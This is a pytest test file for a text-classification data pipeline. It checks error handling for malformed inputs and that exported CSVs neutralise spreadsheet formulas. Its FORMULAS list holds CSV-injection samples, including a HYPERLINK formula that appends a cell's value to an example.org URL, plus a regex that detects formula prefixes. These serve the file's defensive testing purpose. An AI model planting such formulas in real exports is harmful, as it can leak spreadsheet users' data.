"""Whatever is wrong with an input: one clear line that says where, exit status 1, and nothing half-written."""

import csv
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from conftest import set_param
from malformed import CASES, Case
from malformed.project import agree, in_process, make, meet

from pipeline.contracts import read_prepared
from pipeline.report.results import read_csv


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("malformed") / "whole"
    make(folder)
    return folder


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name.replace(" ", "_"))
def test_malformed(case: Case, template: Path, tmp_path: Path) -> None:
    if case.unless_root and os.geteuid() == 0:
        pytest.skip("root may do it")
    outcome = meet(case, template, tmp_path / "project")
    assert "Traceback" not in outcome.stderr, outcome.stderr
    assert outcome.status == 1, outcome
    assert len(outcome.lines) == 1, outcome.stderr
    assert re.fullmatch(case.message, outcome.lines[0]), outcome.lines[0]
    assert not outcome.changed


FORMULAS = ['=HYPERLINK("http://example.org?"&A1,"Win")', "+1+1", "-2+3", "@SUM(1)", "'=1", "\t=1", "＝1", "it's =1"]


def test_a_formula_is_a_tweet_and_no_formula(template: Path, tmp_path: Path) -> None:
    """Accepted as text, kept as it is, and harmless where people open it in a spreadsheet."""
    project = tmp_path / "project"
    shutil.copytree(template, project)
    rows = pd.read_csv(project / "data/sample/train.csv", dtype=str)
    rows.loc[: len(FORMULAS) - 1, "text"] = [f"{formula} storm{n}" for n, formula in enumerate(FORMULAS)]
    rows.loc[0, ["keyword", "location"]] = "=1+1"
    rows.to_csv(project / "data/sample/train.csv", index=False)
    for name, value in {"relabel": [], "min_rows": 5, "draws": 100}.items():
        set_param(project, f"errors.{name}", value)
    set_param(project, "twins.pairs", [["one", "two"]])
    assert in_process(["pipeline.data.prepare"], project, tmp_path)[0] == 0
    prepared = read_prepared(project / "data/prepared")
    assert prepared.train["raw_text"].tolist() == rows["text"].tolist()
    for name, school, score in (("one", "generative", 0.9), ("two", "discriminative", 0.1)):
        agree(name, school, score, project)
    set_param(project, "classifiers", {"counts": ["one", "two"]})
    status, said = in_process(["pipeline.errors.errors"], project, tmp_path)
    assert status == 0, said
    found = {}
    for path in (project / "errors").glob("*.csv"):
        with path.open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if re.match(r"[=+@＝\t\r\n]|-(?![\d.]+$)", cell)], path.name
        found[path.stem] = read_csv(path)
    listed = set(found["disagreements"]["raw_text"])
    assert set(rows["text"]) == listed
    assert (found["confident_errors"]["keyword"] == "=1+1").any()
